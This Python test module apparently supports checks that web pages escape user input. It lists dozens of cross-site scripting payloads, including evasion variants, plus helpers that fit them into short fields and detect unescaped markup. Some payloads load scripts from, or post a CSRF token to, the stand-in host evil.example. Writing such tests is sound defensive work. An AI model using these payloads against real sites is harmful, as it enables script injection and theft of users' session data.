"""Texts that would run or draw something where a page forgot to escape them; marked with x9."""

from tests.thorough import THOROUGH

EVENTS = ("onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onanimationstart")
HARM = "x9=alert(9)"
WHOLE = [
    f"<script x9>{HARM}</script>",
    f"<SCRIPT x9>{HARM}</SCRIPT>",
    f"<scr<script>ipt x9>{HARM}</scr</script>ipt>",
    f"</title><script x9>{HARM}</script>",
    f"</textarea><script x9>{HARM}</script>",
    f"</style><script x9>{HARM}</script>",
    f"</script><script x9>{HARM}</script>",
    f"--><script x9>{HARM}</script>",
    f"]]><script x9>{HARM}</script>",
    f"</option></select><script x9>{HARM}</script>",
    f'"><script x9>{HARM}</script>',
    f"'><script x9>{HARM}</script>",
    f"`><script x9>{HARM}</script>",
    f'\\"><script x9>{HARM}</script>',
    "<script x9 src=//evil.example/x.js></script>",
    "<script x9 src=data:text/javascript,alert(9)></script>",
    f"<svg/x9/onload={HARM}>",
    f"<svg x9><script>{HARM}</script></svg>",
    f"<svg x9><animate onbegin={HARM} attributeName=x dur=1s>",
    f"<svg x9><a xlink:href=javascript:{HARM}><text y=9>9</text></a></svg>",
    f"<math x9><mtext></mtext><mglyph><style><img src onerror={HARM}>",
    f"<iframe x9 srcdoc='<script>{HARM}</script>'></iframe>",
    f"<iframe x9 src=javascript:{HARM}></iframe>",
    f"<object x9 data=javascript:{HARM}></object>",
    f"<embed x9 src=javascript:{HARM}>",
    f"<a x9 href=javascript:{HARM}>9</a>",
    f"<a x9 href=' java&#10;script:{HARM}'>9</a>",
    f"<a x9 href='&#106;avascript:{HARM}'>9</a>",
    f"<form x9 action=javascript:{HARM}><button>9</button></form>",
    "<form x9 action=//evil.example/><input name=csrfmiddlewaretoken>",
    f"<button x9 formaction=javascript:{HARM}>9</button>",
    "<base x9 href=//evil.example/>",
    f"<meta x9 http-equiv=refresh content='0;url=javascript:{HARM}'>",
    "<link x9 rel=stylesheet href=//evil.example/x.css>",
    "<style x9>*{background:url(//evil.example/)}</style>",
    "<p x9 style='background:url(//evil.example/)'>9</p>",
    f"<input x9 autofocus onfocus={HARM}>",
    f"<details x9 open ontoggle={HARM}><summary>9</summary></details>",
    f"<video x9><source onerror={HARM}></video>",
    f"<audio x9 src onerror={HARM}>",
    f"<marquee x9 onstart={HARM}>9</marquee>",
    f"<table x9 background=javascript:{HARM}><td>9</td></table>",
    f"<template x9><script>{HARM}</script></template>",
    f"<noscript><p title='</noscript><img x9 src onerror={HARM}>'>",
    f'" x9 autofocus onfocus={HARM} y="',
    f"' x9 autofocus onfocus={HARM} y='",
    f"x x9 onclick={HARM}",
    f"javascript:{HARM}//",
    f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */{HARM})//</title></style></textarea><x9>",
    "\u202e<x9>\u202c",
    "<x9\u00a0title=>",
    "＜x9＞＜script＞alert(9)＜/script＞",
    "%3Cx9%3E%3Cscript%3Ealert(9)%3C/script%3E",
    "&lt;x9&gt;&#60;x9&#62;",
    "{{ x9 }}{% x9 %}{# x9 #}${x9}<%= x9 %>",
    "Công ty “Đại Dương” <x9> & 'Con' \"trai\"",
    'Phạm Thị <x9 title="ờ"> Nguyễn & Trần\'s',
    "Đường số 5 <x9>&amp;</x9> quận 'Hải An' \"Hải Phòng\"",
    "<b x9>Tổng cục</b> Hải quan & \"Ban\" 'Cải cách'",
    *(f"<img x9 src=x {event}={HARM}>" for event in EVENTS),
]
# For fields that hold no more than a few characters.
SHORT = ["<x9>{}", '"><x9>{}', "'><x9>{}", '" x9="{}', "' x9='{}", "<b x9>{}", "&lt;x9>{}"]

FOUND = """root => [...root.querySelectorAll(
        'x9, [x9], [href^="javascript:" i], [src^="javascript:" i], [action^="javascript:" i]')]
    .map(node => node.outerHTML.slice(0, 160))"""
# Read pages as the browser would, without running them: what stood in each.
PARSED = f"""texts => {{
    const found = {FOUND}, parser = new DOMParser();
    return texts.map(text => found(parser.parseFromString(text, "text/html")));
}}"""
SOURCE = f"""text => ({FOUND})(new DOMParser().parseFromString(text, "text/html"))"""


def payload(number: int, room: int | None) -> str:
    """The ``number``-th text that fits into ``room`` characters (None: as many as one likes)."""
    whole = WHOLE[number % len(WHOLE)]
    if room is None or len(whole) <= room:
        return whole
    return SHORT[number % len(SHORT)].format(number)[:room]


# Texts in one row; alone each has more room in a short field (`make thorough`).
TOGETHER = 1 if THOROUGH else 3


def several(number: int, room: int | None) -> str:
    """:data:`TOGETHER` of the texts, fewer where room is short, so that few rows hold them all."""
    parts = TOGETHER if room is None else min(TOGETHER, max(1, room // 20))
    each = room and (room - parts + 1) // parts
    return " ".join(payload(TOGETHER * number + place, each) for place in range(parts))


ROWS = -(-len(WHOLE) // TOGETHER)
